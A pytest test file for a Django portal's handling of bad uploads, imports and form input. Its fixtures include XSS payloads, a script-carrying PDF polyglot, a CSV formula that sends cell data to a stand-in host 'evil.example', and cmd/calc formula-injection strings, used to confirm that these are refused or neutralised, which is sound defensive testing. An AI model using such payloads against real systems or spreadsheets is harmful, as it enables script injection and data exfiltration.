"""Bad input, the whole catalogue across the portal's uploads, imports and forms (issue 17, point 6).

Table-driven: endpoint × case, each posted on the demo (tests/crawl: `demo_world`, every case in a savepoint rolled
back) through the page's own rendered form, as tests/crawl/test_rendered_forms.py submits it: the rendered values
kept, required fields filled, then the field under test replaced by the bad value. Each case must answer with a
clear message (an error on the page: a field error, the import's row error or the refusal of the file; status
200/400/409/422 as the view does, never a redirect of a save and never 5xx) and save nothing (what the endpoint
would change is read before and after, inside the savepoint).

The catalogue (endpoint: cases):

- uploads checked by `partners.uploads` — checklist evidence, dissemination event files, public results, training
  materials, application documents (the public form), the PDF check of the verification page (public): oversized,
  wrong type, polyglot, wrong encoding (where .txt files are taken);
- imports — mobility import of learners and of mobilities, Beneficiary Module import: oversized, wrong type,
  polyglot, wrong encoding, formula cells, end before start and negative amounts (mobilities, BM);
- forms, end before start: mobility (new, edit), partnership, training event and session, placement, call,
  memorandum, grant report;
- forms, negative amounts: mobility, partnership, cost line, budget allocations, grant terms and payments,
  placement, dissemination activity and event.

The polyglots: a PDF whose body is an HTML page with a script (valid for a PDF reader and for a browser) may be
taken — it is a PDF by its leading bytes — but then the portal must serve it back only as a download of its own
type (`Content-Disposition: attachment`, `X-Content-Type-Options: nosniff`, never as HTML); a PDF with a DOCX
appended (a PDF reader and a ZIP reader both open it) named .docx must be refused; an import file whose cells hold
HTML must show them escaped, never run them. Formula cells (`=HYPERLINK(…)`) are refused by the import;
text a spreadsheet would still read as a formula (`+cmd`, `@SUM`, `-1+2`) is kept as text, and every export
neutralises it (`partners.files.spreadsheet_safe`): `test_formula_text_is_neutralised_in_the_exports`.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime, timedelta

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.forms import BaseForm, BaseFormSet
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from dissemination.models import Activity, DisseminationEvent, EventFile, PublicResult
from documents.models import RenderedDocument
from ecvet.models import GrantAgreement, GrantPayment, Memorandum
from mobility.models import ChecklistItem, Learner, Mobility
from mobility.resources import MAX_UPLOAD_BYTES as IMPORT_MAX_BYTES
from partners.models import Partnership
from placements.models import Placement
from reporting.exports import beneficiary_module as bm
from reporting.forms.budget import allocation_field_name
from reporting.imports.beneficiary_module import MAX_BYTES as BM_MAX_BYTES
from reporting.models import Cost, GrantAllocation
from selection.models import Application, ApplicationDocument, Call
from tests.crawl.accounts import PROJECT_COORDINATOR
from tests.crawl.forms import PDF, fill, posting_forms
from tests.crawl.pages import Form, form_errors
from tests.crawl.test_rendered_forms import CASES, Case, in_vision_mobility, org, url, vision, vision_mobility
from tests.selection.test_public import started
from training_events.models import Material, Session, TrainingEvent

PC = PROJECT_COORDINATOR
NOVA = "coordinator@nova.example"
SMALL_LIMIT_MB = 1  # the uploads' limit for these tests, so that "just above it" stays small
REFUSED_STATUSES = (200, 400, 409, 422)


# --- posting a page's form with one part made bad ---------------------------------------------------------------


@dataclass
class Outcome:
    response: object
    html: str
    before: object
    after: object
    errors: dict[str, list[str]]  # field -> messages, from the forms the view rendered
    shown: list[str]  # the messages on the page
    download: object = None  # the stored file served back, when a polyglot was taken


def context_errors(response) -> dict[str, list[str]]:
    """Field -> messages of every form and formset the view rendered ("__all__" for the form's own)."""
    found: dict[str, list[str]] = {}
    for key in response.context.keys() if getattr(response, "context", None) is not None else []:
        value = response.context[key]
        forms = []
        if isinstance(value, BaseForm):
            forms = [value]
        elif isinstance(value, BaseFormSet):
            forms = list(value.forms)
            if value.non_form_errors():
                found.setdefault("__all__", []).extend(value.non_form_errors())
        for form in forms:
            if form.is_bound:
                for name, messages in form.errors.items():
                    found.setdefault(form.add_prefix(name) if name != "__all__" else name, []).extend(messages)
    return found


def open_form(client: Client, page: str, target: str, pick=None) -> Form:
    response = client.get(page)
    assert response.status_code == 200, f"{page}: {response.status_code}"
    forms = posting_forms(response.content.decode(), page, target)
    form = pick(forms) if pick else (forms[0] if forms else None)
    assert form is not None, f"{page} renders no form posting to {target}"
    return form


def post_bad(
    client: Client, target: str, data: dict, state: Callable[[], object], after_post=None, download=None
) -> Outcome:
    """POST inside a savepoint, read the state before and after (and the stored file back), roll back."""
    with transaction.atomic():
        before = state()
        response = client.post(target, data)
        html = response.content.decode("utf-8", "replace") if not response.streaming else ""
        if after_post is not None:
            after_post(client, response, html)
        after = state()
        served = download(client) if download is not None and after != before else None
        transaction.set_rollback(True)
    return Outcome(
        response, html, before, after, context_errors(response), form_errors(html) + row_errors(response), served
    )


def row_errors(response) -> list[str]:
    """An import's rejected rows, as its page lists them (the mobility import's `result`, the BM import's `plan`)."""
    context = getattr(response, "context", None)
    if context is None:
        return []
    result, plan = context.get("result"), context.get("plan")
    found = [f"row {e.row} {e.column}: {e.message}" for e in (getattr(result, "errors", None) or [])]
    return found + [f"line {r.line}: {r.reason}" for r in (getattr(plan, "rejected", None) or [])]


def assert_refused(outcome: Outcome, fields: set[str] | None = None, what: str = ""):
    """A clear message, on the field(s) under test when given, nothing saved, no 5xx and no redirect of a save."""
    status = outcome.response.status_code
    print(f"{what}: {status} {outcome.shown} {outcome.errors}")
    assert status in REFUSED_STATUSES, f"{what}: answered {status} ({outcome.response.get('Location', '')})"
    assert outcome.shown, f"{what}: no message on the page"
    if fields is not None:
        assert outcome.errors, f"{what}: the page shows {outcome.shown} but no form error"
        wrong = set(outcome.errors) - fields - {"__all__"}
        assert not wrong, f"{what}: errors on fields that were not made bad: { {k: outcome.errors[k] for k in wrong} }"
    assert outcome.after == outcome.before, f"{what}: saved something ({outcome.before} -> {outcome.after})"


# --- forms: end before start, negative amounts --------------------------------------------------------------------


def case_for(view: str, label: str = "") -> Case:
    return next(case for case in CASES if case.view == view and case.label == label)


def approved_grant() -> GrantAgreement:
    return GrantAgreement.objects.filter(status=GrantAgreement.Status.APPROVED).select_related("mobility").first()


def grant_manager(agreement: GrantAgreement) -> str:
    """The sending organisation's coordinator, who manages the participant's grant."""
    return f"coordinator@{agreement.mobility.sending_organisation.slug}.example"


EXTRA_CASES = {
    "ecvet:grant_payment": Case("ecvet:grant_payment", "", lambda c: url("ecvet:grant_payment", approved_grant())),
    "ecvet:grant_report": Case("ecvet:grant_report", "", lambda c: url("ecvet:grant_report", approved_grant())),
}


def iso(day: date) -> str:
    return day.isoformat()


def end_before_start(start: str, end: str, *, kind: str = "date"):
    """The end one day (a time: one hour) before the start, the start on the case's day."""

    def values(day: date) -> dict[str, str]:
        if kind == "datetime":  # both in the future: a call's deadline must be, whatever it opens
            opens = datetime.combine(day + timedelta(days=10), datetime.min.time()).replace(hour=10)
            closes = opens - timedelta(days=1)
            return {start: opens.strftime("%Y-%m-%dT%H:%M"), end: closes.strftime("%Y-%m-%dT%H:%M")}
        if kind == "time":
            return {start: "14:00", end: "13:00"}
        return {start: iso(day), end: iso(day - timedelta(days=1))}

    return values


def negative(*names: str):
    return lambda day: dict.fromkeys(names, "-100")


def rows(model, **filters) -> Callable[[], object]:
    return lambda: model.objects.filter(**filters).count()


def fields_of(model, obj_of: Callable, *names: str) -> Callable[[], object]:
    return lambda: tuple(model.objects.filter(pk=obj_of().pk).values_list(*names).get())


def kmpmc_draft_mobility() -> Mobility:
    return Mobility.objects.filter(learner__home_organisation__slug="kmpmc", status=Mobility.Status.DRAFT).first()


@dataclass
class FormBad:
    view: str
    case: str
    values: Callable[[date], dict[str, str]]
    state: Callable[[], object]
    label: str = ""  # the rendered-form case's label, when a view has several

    def __str__(self):
        return f"{self.view}-{self.case.replace(' ', '-')}"

    @property
    def page_case(self) -> Case:
        return EXTRA_CASES.get(self.view) or case_for(self.view, self.label)


END, NEGATIVE = "end before start", "negative amounts"
FORM_CASES = [
    FormBad("mobility:mobility_create", END, end_before_start("start_date", "end_date"), rows(Mobility)),
    FormBad(
        "mobility:mobility_create",
        NEGATIVE,
        negative("inclusion_support_costs", "expensive_travel_costs", "travel_days", "distance_km"),
        rows(Mobility),
    ),
    FormBad(
        "mobility:mobility_edit",
        END,
        end_before_start("start_date", "end_date"),
        fields_of(Mobility, kmpmc_draft_mobility, "start_date", "end_date"),
    ),
    FormBad(
        "partners:partnership_edit",
        END,
        end_before_start("start_date", "end_date"),
        fields_of(Partnership, vision, "start_date", "end_date"),
    ),
    FormBad("partners:partnership_edit", NEGATIVE, negative("eu_grant"), fields_of(Partnership, vision, "eu_grant")),
    FormBad("reporting:cost_create", NEGATIVE, negative("amount"), rows(Cost)),
    FormBad(
        "reporting:allocations",
        NEGATIVE,
        # The allocation of the project coordinator's school to the management line (its field is named by the
        # organisation's primary key, which differs between databases).
        lambda day: {allocation_field_name(org("kmpmc").pk, "management"): "-100"},
        lambda: sorted(GrantAllocation.objects.values_list("pk", "amount")),
    ),
    FormBad(
        "ecvet:grant_edit",
        NEGATIVE,
        negative("in_kind_value", "prefinancing_percent"),
        lambda: sorted(GrantAgreement.objects.values_list("pk", "in_kind_value", "prefinancing_percent")),
    ),
    FormBad("ecvet:grant_payment", NEGATIVE, negative("amount"), rows(GrantPayment)),
    FormBad(
        "ecvet:grant_report",
        END,
        end_before_start("report_requested_on", "report_submitted_on"),
        lambda: sorted(GrantAgreement.objects.values_list("pk", "report_requested_on", "report_submitted_on")),
    ),
    FormBad("training_events:event_create", END, end_before_start("start_date", "end_date"), rows(TrainingEvent)),
    FormBad(
        "training_events:session_create", END, end_before_start("start_time", "end_time", kind="time"), rows(Session)
    ),
    FormBad("placements:placement_create", END, end_before_start("start_date", "end_date"), rows(Placement)),
    FormBad("placements:placement_create", NEGATIVE, negative("places"), rows(Placement)),
    FormBad("selection:call_create", END, end_before_start("opens_at", "deadline", kind="datetime"), rows(Call)),
    FormBad("ecvet:memorandum_create", END, end_before_start("valid_from", "valid_until"), rows(Memorandum)),
    FormBad("dissemination:activity_create", NEGATIVE, negative("reach"), rows(Activity)),
    FormBad("dissemination:event_create", NEGATIVE, negative("learners-national"), rows(DisseminationEvent)),
]


@pytest.mark.parametrize("bad", FORM_CASES, ids=str)
def test_a_form_refuses_bad_dates_and_amounts(demo_world, db, bad):
    page_case = bad.page_case
    client = Client()
    account = page_case.account or grant_manager(approved_grant())
    client.force_login(demo_world.user(account))
    page = page_case.page(client)
    target = page_case.target(page) if page_case.target else page
    form = open_form(client, page, target, page_case.pick)
    day = page_case.day()
    data, _filled = fill(form, day, choose=page_case.choose() if page_case.choose else None)
    values = bad.values(day)
    rendered = {f.name for f in form.fields}
    assert set(values) <= rendered, f"{page} renders no field {set(values) - rendered}"
    data.update({name: [value] for name, value in values.items()})
    outcome = post_bad(client, target, data, bad.state)
    assert_refused(outcome, set(values), f"{bad} as {account} on {page}")


# --- uploads: oversized, wrong type, polyglot, wrong encoding ----------------------------------------------------


def docx_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><document/>')
    return buffer.getvalue()


SCRIPT = b"<html><body><script>alert(document.domain)</script></body></html>"
PDF_WITH_HTML = PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n" + SCRIPT + b"\n", 1)
NOT_UTF8_TEXT = "Évaluation réussie – stage à Salerno".encode("cp1252")


@dataclass(frozen=True)
class BadFile:
    case: str
    make: Callable[[int], SimpleUploadedFile]  # from the endpoint's size limit
    may_take: bool = False  # a polyglot that is of its declared type: taken, but then served safely
    text_only: bool = False  # for endpoints that take .txt files


FILE_CASES = [
    BadFile("oversized", lambda limit: SimpleUploadedFile("big.pdf", b"%PDF-1.4\n" + b"0" * (limit - 8))),
    BadFile(
        "wrong type: a program named .pdf",
        lambda limit: SimpleUploadedFile("cv.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200),
    ),
    BadFile("wrong type: text named .png", lambda limit: SimpleUploadedFile("photo.png", b"just some text\n")),
    BadFile(
        "polyglot: PDF with a DOCX appended, named .docx",
        lambda limit: SimpleUploadedFile("letter.docx", PDF + docx_bytes()),
    ),
    BadFile(
        "polyglot: PDF whose body is HTML with a script",
        lambda limit: SimpleUploadedFile("letter.pdf", PDF_WITH_HTML),
        may_take=True,
    ),
    BadFile(
        "wrong encoding: Windows-1252 text",
        lambda limit: SimpleUploadedFile("notes.txt", NOT_UTF8_TEXT),
        text_only=True,
    ),
    BadFile(
        "wrong encoding: UTF-16 text",
        lambda limit: SimpleUploadedFile("notes.txt", "Évaluation réussie".encode("utf-16")),
        text_only=True,
    ),
]


def checklist_item() -> ChecklistItem:
    return (
        ChecklistItem.objects.filter(
            mobility__sending_organisation__slug="kmpmc", mobility__status=Mobility.Status.PLANNED
        )
        .order_by("pk")
        .first()
    )


def open_call() -> Call:
    return next(call for call in Call.objects.filter(status=Call.Status.PUBLISHED).order_by("pk") if call.is_open)


def ready_document() -> RenderedDocument:
    return RenderedDocument.objects.filter(status=RenderedDocument.Status.READY).order_by("pk").first()


def newest(model, name: str, **kwargs) -> Callable[[Client], object]:
    """The download of the newest row of `model` (where a taken polyglot is served back)."""

    def fetch(client: Client):
        row = model.objects.order_by("-pk").first()
        return client.get(
            reverse(
                name,
                kwargs={
                    key: getattr(row, attr) if isinstance(attr, str) else attr(row) for key, attr in kwargs.items()
                },
            )
        )

    return fetch


def evidence_back(client: Client):
    return client.get(reverse("mobility:evidence_download", args=[checklist_item().code]))


def application_document_back(client: Client):
    """The motivation letter sent, as the call's coordinator downloads it (the applicant has no account)."""
    document = ApplicationDocument.objects.filter(kind=ApplicationDocument.Kind.MOTIVATION).order_by("-pk").first()
    staff = Client()
    staff.force_login(open_call().organisation.memberships.get(role="project_coordinator").user)
    kwargs = {"code": document.application.code, "document": document.code}
    return staff.get(reverse("selection:document_download", kwargs=kwargs))


@dataclass
class UploadPoint:
    name: str
    account: str | None  # None: anonymous
    page: Callable[[], str]
    field: str
    state: Callable[[], object]
    takes_text: bool = False
    limit: Callable[[], int] = lambda: SMALL_LIMIT_MB * 1024 * 1024
    target: Callable[[str], str] | None = None
    choose: Callable[[], dict] = dict
    served: Callable[[Client], object] | None = None  # the stored file, fetched back
    kept: bool = True  # False: the file is checked and answered, never stored (the verification page)


UPLOADS = [
    UploadPoint(
        "checklist evidence",
        PC,
        lambda: url("mobility:checklist_item", checklist_item()),
        "evidence",
        lambda: tuple(ChecklistItem.objects.filter(pk=checklist_item().pk).values_list("evidence", "done_at").get()),
        takes_text=True,
        served=evidence_back,
    ),
    UploadPoint(
        "dissemination event file",
        PC,
        lambda: url("dissemination:event_detail", DisseminationEvent.objects.order_by("created_at").first()),
        "file",
        rows(EventFile),
        target=lambda page: url("dissemination:file_upload", DisseminationEvent.objects.order_by("created_at").first()),
        served=newest(EventFile, "dissemination:file_download", code="code"),
    ),
    UploadPoint(
        "public result",
        PC,
        lambda: reverse("dissemination:public_result_create", kwargs={"slug": vision().slug}),
        "file",
        rows(PublicResult),
        served=newest(
            PublicResult, "dissemination:public_result_download", slug=lambda r: r.partnership.slug, code="code"
        ),
    ),
    UploadPoint(
        "training material",
        PC,
        lambda: url(
            "training_events:material_list",
            TrainingEvent.objects.filter(host_organisation__slug="kmpmc").order_by("start_date").first(),
        ),
        "file",
        rows(Material),
        takes_text=True,
        served=newest(Material, "training_events:material_download", code="code"),
    ),
    UploadPoint(
        "application documents (public form)",
        None,
        lambda: reverse("selection:apply", args=[open_call().code]),
        "motivation",
        lambda: (Application.objects.count(), ApplicationDocument.objects.count()),
        choose=lambda: {"started": started(open_call())},  # filled in a minute ago, as a person does
        served=application_document_back,
    ),
    UploadPoint(
        "PDF check on the verification page",
        None,
        lambda: reverse("documents:verify", args=[ready_document().verify_token]),
        "file",
        lambda: (RenderedDocument.objects.count(), sorted(RenderedDocument.objects.values_list("pk", "file_sha256"))),
        kept=False,
    ),
]


UPLOAD_CASES = [(point, bad) for point in UPLOADS for bad in FILE_CASES if not bad.text_only or point.takes_text]


@pytest.mark.parametrize(("point", "bad"), UPLOAD_CASES, ids=[f"{p.name}-{b.case}" for p, b in UPLOAD_CASES])
def test_an_upload_refuses_a_bad_file(demo_world, db, settings, point, bad):
    settings.VISION_MAX_UPLOAD_MB = SMALL_LIMIT_MB
    settings.VISION_PDF_MAX_BYTES = SMALL_LIMIT_MB * 1024 * 1024
    client = Client()
    if point.account:
        client.force_login(demo_world.user(point.account))
    page = point.page()
    target = point.target(page) if point.target else page
    form = open_form(client, page, target)
    data, _filled = fill(form, timezone.localdate(), choose=point.choose())
    upload = bad.make(point.limit() + 1)
    data[point.field] = [upload]
    outcome = post_bad(client, target, data, point.state, download=point.served)
    what = f"{point.name}, {bad.case}"
    assert outcome.response.status_code < 500, what
    if not point.kept:
        # Checked and answered, never kept: a message either way (refused, or "does not match").
        assert outcome.response.status_code in REFUSED_STATUSES and outcome.shown, what
        assert outcome.after == outcome.before, what
        return
    if bad.may_take and outcome.after != outcome.before:
        served = outcome.download
        print(f"{what}: taken, served back as {served and dict(served.items())}")
        assert served is not None and served.status_code == 200, f"{what}: taken, but not served back"
        assert served["Content-Disposition"].startswith("attachment"), f"{what}: served inline"
        assert served["X-Content-Type-Options"] == "nosniff", f"{what}: the browser may sniff it as HTML"
        assert served["Content-Type"] == "application/pdf", f"{what}: served as {served['Content-Type']}"
        return
    assert_refused(outcome, {point.field}, what)


@pytest.mark.parametrize("point", [p for p in UPLOADS if p.kept], ids=lambda p: p.name)
def test_a_valid_file_is_taken(demo_world, db, settings, point):
    """The forms the cases spoil are good to begin with: with a small valid PDF, the upload is stored."""
    settings.VISION_MAX_UPLOAD_MB = SMALL_LIMIT_MB
    client = Client()
    if point.account:
        client.force_login(demo_world.user(point.account))
    page = point.page()
    target = point.target(page) if point.target else page
    data, _filled = fill(open_form(client, page, target), timezone.localdate(), choose=point.choose())
    data[point.field] = [SimpleUploadedFile("letter.pdf", PDF)]
    outcome = post_bad(client, target, data, point.state)
    assert outcome.after != outcome.before, f"{point.name}: a valid PDF was not taken: {outcome.shown}"


# --- imports: the same, and the rows' own cases ------------------------------------------------------------------


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=newline).writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list[str]]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def learner_rows(**changes) -> list[list[str]]:
    row = {
        "first_name": "Ona",
        "last_name": "Bad-Input",
        "date_of_birth": "2004-02-03",
        "email": "ona.bad-input@example.org",
        "nationality": "LT",
        "consent_given_on": "2026-01-15",
        **changes,
    }
    return [list(row), list(row.values())]


def mobility_rows(**changes) -> list[list[str]]:
    learner = Learner.objects.filter(home_organisation__slug="kmpmc").exclude(email="").order_by("pk").first()
    start = in_vision_mobility() + timedelta(days=30)
    row = {
        "learner_code": str(learner.code),
        "partnership": vision_mobility().slug,
        "receiving_organisation": "nova",
        "start_date": iso(start),
        "end_date": iso(start + timedelta(days=20)),
        "travel_days": "2",
        "host_company": "Salon Bloem",
        **changes,
    }
    return [list(row), list(row.values())]


def bm_rows(client: Client, **changes) -> list[list[str]]:
    """The portal's own Beneficiary Module export of VISION Mobility, its first main row changed."""
    response = client.get(reverse("reporting:export_activities", kwargs={"slug": vision_mobility().slug, "fmt": "csv"}))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    header = table[0]
    main = next(row for row in table[1:] if row[header.index("Data type")] == bm.MAIN)
    for column, value in changes.items():
        main[header.index(column)] = value(main[header.index(column)], header, main) if callable(value) else value
    return [header, main]


@dataclass(frozen=True)
class ImportPoint:
    name: str
    page: Callable[[], str]
    choose: Callable[[], dict]
    limit: int
    rows: Callable[..., list[list[str]]]  # (client, **changes) -> a valid file's rows, changed
    state: Callable[[], object]
    confirm: Callable[[], str]


def bm_day_before(value, header, row) -> str:
    start = datetime.strptime(row[header.index("Start date")], bm.DATE_FORMAT).date()  # noqa: DTZ007
    return (start - timedelta(days=1)).strftime(bm.DATE_FORMAT)


IMPORT_STATE = lambda: (  # noqa: E731
    Learner.objects.count(),
    Mobility.objects.count(),
    sorted(Mobility.objects.values_list("pk", "start_date", "end_date", "travel_days", "inclusion_support_costs")),
)


def mobility_import(kind: str, make_rows: Callable) -> ImportPoint:
    """The mobility app's import of `kind` (learners or mobilities) for KMPMC."""
    return ImportPoint(
        f"mobility import of {kind}",
        lambda: reverse("mobility:import"),
        lambda: {"kind": kind, "organisation": org("kmpmc").pk},
        IMPORT_MAX_BYTES,
        lambda client, **changes: make_rows(**changes),
        IMPORT_STATE,
        lambda: reverse("mobility:import_confirm"),
    )


IMPORTS = {
    "learners": mobility_import("learners", learner_rows),
    "mobilities": mobility_import("mobilities", mobility_rows),
    "bm": ImportPoint(
        "Beneficiary Module import",
        lambda: reverse("reporting:import_activities", args=[vision_mobility().slug]),
        dict,
        BM_MAX_BYTES,
        bm_rows,
        IMPORT_STATE,
        lambda: reverse("reporting:confirm_activities", args=[vision_mobility().slug]),
    ),
}


@dataclass(frozen=True)
class BadImport:
    case: str
    points: tuple[str, ...]
    make: Callable  # (point, client) -> SimpleUploadedFile
    escaped: bool = False  # a polyglot: the cells' HTML must come back escaped
    must_refuse: bool = True  # False: a file the import may read as meant (then it answers, never 5xx)


def _csv(point, client, name="import.csv", encoding="utf-8", newline="\r\n", **changes):
    return SimpleUploadedFile(name, csv_bytes(point.rows(client, **changes), encoding, newline))


ALL = ("learners", "mobilities", "bm")
IMPORT_CASES = [
    BadImport("oversized", ALL, lambda p, c: SimpleUploadedFile("big.csv", csv_bytes(p.rows(c)) + b"," * p.limit)),
    BadImport("wrong type: text named .xlsx", ALL, lambda p, c: SimpleUploadedFile("list.xlsx", csv_bytes(p.rows(c)))),
    BadImport(
        "wrong type: a program named .csv",
        ALL,
        lambda p, c: SimpleUploadedFile("list.csv", b"MZ\x90\x00" + b"\x00" * 300),
    ),
    BadImport("wrong type: a PDF", ALL, lambda p, c: SimpleUploadedFile("list.pdf", PDF)),
    BadImport(
        "polyglot: a PDF with a workbook appended, named .csv",
        ALL,
        lambda p, c: SimpleUploadedFile("list.csv", PDF + xlsx_bytes(p.rows(c))),
    ),
    BadImport(
        "polyglot: cells holding HTML with a script",
        ("learners",),
        lambda p, c: _csv(p, c, first_name="<script>alert(1)</script>", last_name="<img src=x onerror=alert(2)>"),
        escaped=True,
    ),
    BadImport("wrong encoding: UTF-16", ALL, lambda p, c: _csv(p, c, encoding="utf-16")),
    BadImport(
        "wrong encoding: Windows-1252",
        ("learners",),
        lambda p, c: _csv(p, c, encoding="cp1252", last_name="Müller-Šalkauskas"),
    ),
    BadImport(
        "wrong encoding: invalid UTF-8 bytes",
        ALL,
        lambda p, c: SimpleUploadedFile("list.csv", csv_bytes(p.rows(c)) + b"\xff\xfe\xfa\n"),
    ),
    BadImport(
        "wrong encoding: old Mac line ends (CR only)", ALL, lambda p, c: _csv(p, c, newline="\r"), must_refuse=False
    ),
    BadImport(
        "formula cells: =HYPERLINK in CSV",
        ("learners", "mobilities"),
        lambda p, c: _csv(
            p,
            c,
            **{
                "host_company"
                if "mobilities" in p.name
                else "last_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")'
            },
        ),
    ),
    BadImport(
        "formula cells: =SUM in XLSX",
        ("learners", "mobilities", "bm"),
        lambda p, c: SimpleUploadedFile(
            "list.xlsx",
            xlsx_bytes(
                p.rows(
                    c,
                    **{
                        "bm": {"Start date": "=TODAY()"},
                        "learners": {"last_name": "=1+1"},
                        "mobilities": {"travel_days": "=1+1"},
                    }[_key(p)],
                )
            ),
        ),
    ),
    BadImport("end before start", ("mobilities",), lambda p, c: _csv(p, c, end_date=iso(in_vision_mobility()))),
    BadImport("end before start", ("bm",), lambda p, c: _csv(p, c, **{"End date": bm_day_before})),
    BadImport("negative amounts", ("mobilities",), lambda p, c: _csv(p, c, travel_days="-2", virtual_hours="-5")),
    BadImport(
        "negative amounts",
        ("bm",),
        lambda p, c: _csv(p, c, **{"Inclusion support for participants": "-50.00", "Funded travel days": "-1"}),
    ),
]


def _key(point: ImportPoint) -> str:
    return next(key for key, value in IMPORTS.items() if value is point)


IMPORT_MATRIX = [(key, bad) for bad in IMPORT_CASES for key in bad.points]


def confirm_if_offered(point: ImportPoint):
    """After the upload: if the page offers to confirm, confirm (what a person would do), so that "nothing saved"
    covers the whole import, not only its dry run."""

    def confirm(client: Client, response, html: str):
        for form in posting_forms(html, point.page(), point.confirm()):
            client.post(point.confirm(), dict(form.values()))

    return confirm


def import_page(demo_world, point: ImportPoint) -> tuple[Client, str, dict]:
    """The project coordinator on the import page of `point`, with its form filled as rendered (no file yet)."""
    client = Client()
    client.force_login(demo_world.user(PC))
    page = point.page()
    data, _filled = fill(open_form(client, page, page), timezone.localdate(), choose=point.choose())
    return client, page, data


@pytest.mark.parametrize(("key", "bad"), IMPORT_MATRIX, ids=[f"{IMPORTS[k].name}-{b.case}" for k, b in IMPORT_MATRIX])
def test_an_import_refuses_a_bad_file(demo_world, db, key, bad):
    point = IMPORTS[key]
    client, page, data = import_page(demo_world, point)
    data["file"] = [bad.make(point, client)]
    outcome = post_bad(client, page, data, point.state, after_post=confirm_if_offered(point))
    what = f"{point.name}, {bad.case}"
    assert outcome.response.status_code < 500, what
    if bad.escaped:
        # Names are free text: the cells may be taken, but the preview shows them as text, never as markup.
        assert "<script>alert(1)" not in outcome.html and "<img src=x" not in outcome.html, what
        assert "&lt;script&gt;alert(1)" in outcome.html, f"{what}: the cells are not shown"
    elif bad.must_refuse:
        assert_refused(outcome, None, what)
    else:
        assert outcome.response.status_code in REFUSED_STATUSES, what


@pytest.mark.parametrize("key", IMPORTS)
def test_the_valid_import_file_is_taken(demo_world, db, key):
    """The files the cases spoil are good to begin with: uploaded and confirmed, they change the portal."""
    point = IMPORTS[key]
    client, page, data = import_page(demo_world, point)
    changes = (
        {
            "End date": lambda value, header, row: (
                (
                    datetime.strptime(value, bm.DATE_FORMAT) + timedelta(days=1)  # noqa: DTZ007 - a calendar day
                ).strftime(bm.DATE_FORMAT)
            )
        }
        if key == "bm"
        else {}
    )
    data["file"] = [_csv(point, client, **changes)]
    outcome = post_bad(client, page, data, point.state, after_post=confirm_if_offered(point))
    assert outcome.after != outcome.before, f"{point.name}: the valid file changed nothing: {outcome.shown}"


# Text a spreadsheet would read as a formula, though it does not start with "=": kept as typed, exported inert.
FORMULA_TEXTS = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_formula_text_is_neutralised_in_the_exports(demo_world, db, text):
    point = IMPORTS["mobilities"]
    client, page, data = import_page(demo_world, point)
    data["file"] = [_csv(point, client, host_company=text)]
    response = client.post(page, data)
    confirm_if_offered(point)(client, response, response.content.decode())
    assert Mobility.objects.filter(host_company=text).exists(), f"not imported: {row_errors(response)}"

    export = reverse("mobility:mobility_export")
    body = client.get(export, {"list": "outgoing", "format": "csv"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + text in cells and text not in cells
    book = openpyxl.load_workbook(io.BytesIO(client.get(export, {"list": "outgoing", "format": "xlsx"}).content))
    values = [cell.value for row in book.active.iter_rows() for cell in row]
    assert "'" + text in values and text not in values
